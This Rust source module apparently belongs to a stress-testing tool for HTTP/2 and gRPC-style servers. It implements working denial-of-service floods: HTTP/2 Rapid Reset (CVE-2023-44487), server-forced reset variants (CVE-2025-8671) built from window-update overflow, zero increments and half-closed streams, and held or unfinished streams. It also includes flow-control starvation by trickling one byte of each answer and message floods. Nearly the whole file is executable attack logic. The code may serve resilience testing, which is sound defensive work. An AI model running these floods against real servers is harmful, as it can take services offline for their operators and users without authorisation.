//! Floods of HTTP/2 streams.

use std::convert::Infallible;
use std::time::Duration;

use super::frames::{
    END_HEADERS, END_STREAM, call, cancel, frame, header_block, kind, message, prefix, settings, whole_call,
    window_of, window_update,
};
use super::{Ending, Line, Reading, Request, Tally, Target};

/// Calls that are sent at once.
const AT_ONCE: u32 = 50;
/// Streams that one connection may have, as the server says.
const ALL: u32 = 1_024;
/// Less than that.
const AS_MANY_AS_MAY: u32 = 200;
/// How often a byte is taken of each answer.
const TRICKLE: Duration = Duration::from_millis(200);
/// The number of the last stream that a connection may have.
const LAST: u32 = 0x7fff_ffff;
/// The largest window, and the largest step of one.
const LARGEST: u32 = 0x7fff_ffff;
/// A connection's window at first (RFC 9113, section 6.9.2).
const FIRST_WINDOW: u32 = 65_535;

/// How long a server's first words may take to come.
const SETTLED: Duration = Duration::from_millis(200);

type Endless = Result<Infallible, Ending>;

/// The numbers of the next calls. A client's streams have odd ones.
fn numbers(next: &mut u32) -> impl Iterator<Item = u32> + use<> {
    let first = *next;
    *next += 2 * AT_ONCE;
    (0..AT_ONCE).map(move |step| first + 2 * step)
}

/// Sends this for one stream after the other.
async fn each(target: &Target, tally: &Tally, said: impl Fn(u32) -> Vec<u8>) -> Endless {
    let mut line = Line::open(target, tally, Reading::All, &settings()).await?;
    let mut next = 1;
    while next < LAST - 2 * AT_ONCE {
        let said: Vec<u8> = numbers(&mut next).flat_map(&said).collect();
        line.send(&said).await?;
        tokio::task::yield_now().await;
    }
    line.rest().await
}

/// A call and its reset, together (CVE-2023-44487).
pub(super) async fn rapid_reset(target: &Target, tally: &Tally) -> Endless {
    let presets = header_block(&Request::presets());
    each(target, tally, |stream| {
        [frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &presets), cancel(stream)].concat()
    })
    .await
}

/// Calls, and when the server has begun with them, their resets.
pub(super) async fn late_reset(target: &Target, tally: &Tally) -> Endless {
    let mut line = Line::open(target, tally, Reading::All, &settings()).await?;
    let (mut next, request) = (1, Request::presets());
    while next < LAST - 2 * AT_ONCE {
        let streams = numbers(&mut next);
        let (calls, resets): (Vec<_>, Vec<_>) =
            streams.map(|stream| (whole_call(stream, &request), cancel(stream))).unzip();
        line.send(&calls.concat()).await?;
        tokio::time::sleep(Duration::from_millis(1)).await;
        line.send(&resets.concat()).await?;
    }
    line.rest().await
}

/// Calls that the server itself resets (CVE-2025-8671), as their window would be too large.
pub(super) async fn made_to_overflow(target: &Target, tally: &Tally) -> Endless {
    let play = Request::play();
    each(target, tally, |stream| [call(stream, &play), window_update(stream, LARGEST)].concat()).await
}

/// The same, as their window would not change.
pub(super) async fn made_by_zero(target: &Target, tally: &Tally) -> Endless {
    let play = Request::play();
    each(target, tally, |stream| [call(stream, &play), window_update(stream, 0)].concat()).await
}

/// The same, as they had said that there is no more.
pub(super) async fn made_half_closed(target: &Target, tally: &Tally) -> Endless {
    let presets = Request::presets();
    each(target, tally, |stream| {
        [whole_call(stream, &presets), frame(kind::DATA, 0, stream, &[0; 5])].concat()
    })
    .await
}

/// Opens Play streams on which nothing is said, beyond what the server allows.
pub(super) async fn without_end(target: &Target, tally: &Tally) -> Endless {
    let play = Request::play();
    each(target, tally, |stream| call(stream, &play)).await
}

/// Opens as many Play streams as are allowed, and keeps them.
pub(super) async fn held(target: &Target, tally: &Tally) -> Endless {
    let mut line = Line::open(target, tally, Reading::All, &settings()).await?;
    all(&mut line, |stream| call(stream, &Request::play())).await?;
    line.rest().await
}

/// Says that a message of `bytes` comes on each of them, and sends little of it.
pub(super) async fn lies(target: &Target, tally: &Tally, request: &Request, bytes: u32) -> Endless {
    let mut line = Line::open(target, tally, Reading::All, &settings()).await?;
    all(&mut line, |stream| {
        [call(stream, request), frame(kind::DATA, 0, stream, &[&prefix(bytes)[..], b"little"].concat())]
            .concat()
    })
    .await?;
    line.rest().await
}

/// Sends as much of messages as the connection's window takes, and never their ends.
pub(super) async fn unfinished(target: &Target, tally: &Tally) -> Endless {
    let mut line = Line::open(target, tally, Reading::All, &settings()).await?;
    let request = Request::batch(&target.token);
    // The window is wide once the server has said so.
    tokio::time::sleep(SETTLED).await;
    let part = [&prefix(1_000_000)[..], &[0; 16_000]].concat();
    for stream in (0..64).map(|stream| 2 * stream + 1) {
        line.send(&[call(stream, &request), frame(kind::DATA, 0, stream, &part)].concat()).await?;
    }
    line.rest().await
}

/// Asks for much, and reads nothing: not a byte, or with windows of 0 not a byte of an answer.
pub(super) async fn never_read(
    target: &Target,
    tally: &Tally,
    reading: Reading,
    request: &Request,
) -> Endless {
    let settings = if reading == Reading::All { window_of(0) } else { settings() };
    let mut line = Line::open(target, tally, reading, &settings).await?;
    all(&mut line, |stream| whole_call(stream, request)).await?;
    line.rest().await
}

/// Asks for much, opens all windows as wide as they may be, and takes little of what comes at a time.
pub(super) async fn wide_windows(target: &Target, tally: &Tally, request: &Request) -> Endless {
    let settings = [window_of(LARGEST), window_update(0, LARGEST - FIRST_WINDOW)].concat();
    let mut line = Line::open(target, tally, Reading::Slowly, &settings).await?;
    for stream in (0..AS_MANY_AS_MAY).map(|stream| 2 * stream + 1) {
        line.send(&whole_call(stream, request)).await?;
    }
    line.rest().await
}

/// Asks for much, and takes a byte of each answer at a time: settings open the windows of all streams by one.
pub(super) async fn trickle(target: &Target, tally: &Tally, request: &Request) -> Endless {
    let mut line = Line::open(target, tally, Reading::All, &window_of(1)).await?;
    for stream in (0..AS_MANY_AS_MAY).map(|stream| 2 * stream + 1) {
        line.send(&whole_call(stream, request)).await?;
    }
    let mut bytes = 1;
    loop {
        tokio::time::sleep(TRICKLE).await;
        bytes += 1;
        line.send(&window_of(bytes)).await?;
    }
}

/// Says much on as many Play streams as the connection's window takes, and takes a byte of each answer at a time.
pub(super) async fn unanswered(target: &Target, tally: &Tally) -> Endless {
    let mut line = Line::open(target, tally, Reading::All, &window_of(1)).await?;
    // The window is wide once the server has said so.
    tokio::time::sleep(SETTLED).await;
    let said = message(&[8, 1]).repeat(2_000);
    for stream in (0..64).map(|stream| 2 * stream + 1) {
        line.send(&[call(stream, &Request::play()), frame(kind::DATA, 0, stream, &said)].concat()).await?;
    }
    let mut bytes = 1;
    loop {
        tokio::time::sleep(TRICKLE).await;
        bytes += 1;
        line.send(&window_of(bytes)).await?;
    }
}

/// Says hello on a Play stream, and then the same again and again, which is answered each time.
pub(super) async fn garrulous(target: &Target, tally: &Tally) -> Endless {
    let mut line = Line::open(target, tally, Reading::All, &settings()).await?;
    line.send(&call(1, &Request::play())).await?;
    // A message of no kind.
    line.flood(&frame(kind::DATA, 0, 1, &message(&[8, 1]).repeat(100))).await
}

/// Sends this for as many streams as are allowed.
async fn all(line: &mut Line, said: impl Fn(u32) -> Vec<u8>) -> Result<(), Ending> {
    for stream in (0..ALL).map(|stream| 2 * stream + 1) {
        line.send(&said(stream)).await?;
    }
    Ok(())
}
